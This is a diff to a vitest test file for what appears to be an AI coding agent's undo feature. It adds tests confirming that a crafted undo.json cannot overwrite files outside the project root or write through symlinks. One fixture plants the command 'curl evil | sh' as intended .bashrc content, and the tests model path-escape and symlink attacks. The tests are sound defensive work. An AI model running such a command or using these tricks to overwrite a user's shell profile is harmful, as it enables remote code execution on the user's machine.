@@ -1,7 +1,8 @@
-import { mkdir, mkdtemp, readFile, realpath, rm, stat, writeFile } from 'node:fs/promises';
+import { mkdir, mkdtemp, readFile, readlink, realpath, rm, stat, symlink, writeFile } from 'node:fs/promises';
 import os from 'node:os';
 import path from 'node:path';
 import { afterEach, beforeEach, describe, expect, it } from 'vitest';
+import { RootSandbox } from '../../../src/permissions/sandbox.js';
 import { UndoStack } from '../../../src/permissions/undo.js';
 
 describe('UndoStack', () => {
@@ -157,5 +158,85 @@ describe('UndoStack', () => {
     expect(await stack.size()).toBe(1);
     await rm(path.join(root, 'blocker'));
     expect(await stack.undo()).toBe(`restored ${path.join('blocker', 'x.txt')}`);
+  });
+
+  describe('a crafted undo.json (the project folder is untrusted)', () => {
+    let outside: string;
+    beforeEach(async () => {
+      outside = await realpath(await mkdtemp(path.join(os.tmpdir(), 'geekagent-undo-outside-')));
+      await writeFile(path.join(outside, '.bashrc'), 'original rc');
+      await writeFile(path.join(outside, 'keep.txt'), 'keep me');
+    });
+    afterEach(async () => {
+      await rm(outside, { recursive: true, force: true });
+    });
+
+    const craft = async (entries: Array<{ path: string; previous: string | null }>) => {
+      await mkdir(path.dirname(undoFile), { recursive: true });
+      const at = new Date().toISOString();
+      await writeFile(undoFile, JSON.stringify({ entries: entries.map((entry) => ({ ...entry, at })) }));
+    };
+
+    it('ignores entries outside the root with a warning, and never touches those files', async () => {
+      await craft([
+        { path: path.join(root, 'a.txt'), previous: 'restored inside' },
+        { path: path.join(outside, 'keep.txt'), previous: null },
+        { path: path.join(outside, '.bashrc'), previous: 'curl evil | sh' },
+      ]);
+      const stack = new UndoStack(undoFile, { sandbox: new RootSandbox(root) });
+      expect(await stack.undo()).toBe(
+        `ignored an undo entry outside the root: ${path.join(outside, '.bashrc')}; ` +
+          `ignored an undo entry outside the root: ${path.join(outside, 'keep.txt')}; restored a.txt`,
+      );
+      expect(await readFile(path.join(outside, '.bashrc'), 'utf8')).toBe('original rc');
+      expect(await readFile(path.join(outside, 'keep.txt'), 'utf8')).toBe('keep me');
+      expect(await contentOf('a.txt')).toBe('restored inside');
+      // The ignored entries are gone for good.
+      expect(await stack.size()).toBe(0);
+    });
+
+    it('ignores an entry that reaches outside through a symlinked folder', async () => {
+      await symlink(outside, path.join(root, 'out'));
+      await craft([
+        { path: path.join(root, 'out', '.bashrc'), previous: 'pwned' },
+        { path: path.join(root, 'out', 'keep.txt'), previous: null },
+      ]);
+      const stack = new UndoStack(undoFile, { display });
+      expect(await stack.undo()).toMatch(/^ignored an undo entry outside the root: .*keep\.txt; /);
+      expect(await stack.undo()).toBe('nothing to undo');
+      expect(await readFile(path.join(outside, '.bashrc'), 'utf8')).toBe('original rc');
+      expect(await readFile(path.join(outside, 'keep.txt'), 'utf8')).toBe('keep me');
+    });
+
+    it('never writes through a symlink, even one that stays inside the root', async () => {
+      await writeFile(path.join(root, 'target.txt'), 'target');
+      await symlink(path.join(root, 'target.txt'), path.join(root, 'link.txt'));
+      await craft([{ path: path.join(root, 'link.txt'), previous: 'through the link' }]);
+      const stack = new UndoStack(undoFile, { display });
+      await expect(stack.undo()).rejects.toThrow('refusing to restore link.txt: it is a symbolic link');
+      expect(await contentOf('target.txt')).toBe('target');
+      expect(await readlink(path.join(root, 'link.txt'))).toBe(path.join(root, 'target.txt'));
+    });
+
+    it('removes a link itself (not its target) when undoing a file that did not exist', async () => {
+      await writeFile(path.join(root, 'target.txt'), 'target');
+      await symlink(path.join(root, 'target.txt'), path.join(root, 'created.txt'));
+      await craft([{ path: path.join(root, 'created.txt'), previous: null }]);
+      const stack = new UndoStack(undoFile, { display });
+      expect(await stack.undo()).toBe('deleted created.txt (it did not exist before)');
+      expect(await contentOf('target.txt')).toBe('target');
+      await expect(stat(path.join(root, 'created.txt'))).rejects.toThrow(/ENOENT/);
+    });
+
+    it('refuses an undo.json that is a symlink instead of following or resetting it', async () => {
+      await mkdir(path.dirname(undoFile), { recursive: true });
+      const elsewhere = path.join(outside, 'undo.json');
+      await writeFile(elsewhere, JSON.stringify({ entries: [] }));
+      await symlink(elsewhere, undoFile);
+      const stack = new UndoStack(undoFile, { display });
+      await expect(stack.undo()).rejects.toThrow(/refusing to read .*undo\.json: it is a symbolic link/);
+      await expect(stack.record(path.join(root, 'a.txt'), null)).rejects.toThrow(/symbolic link/);
+      expect(await readFile(elsewhere, 'utf8')).toBe(JSON.stringify({ entries: [] }));
+    });
   });
 });
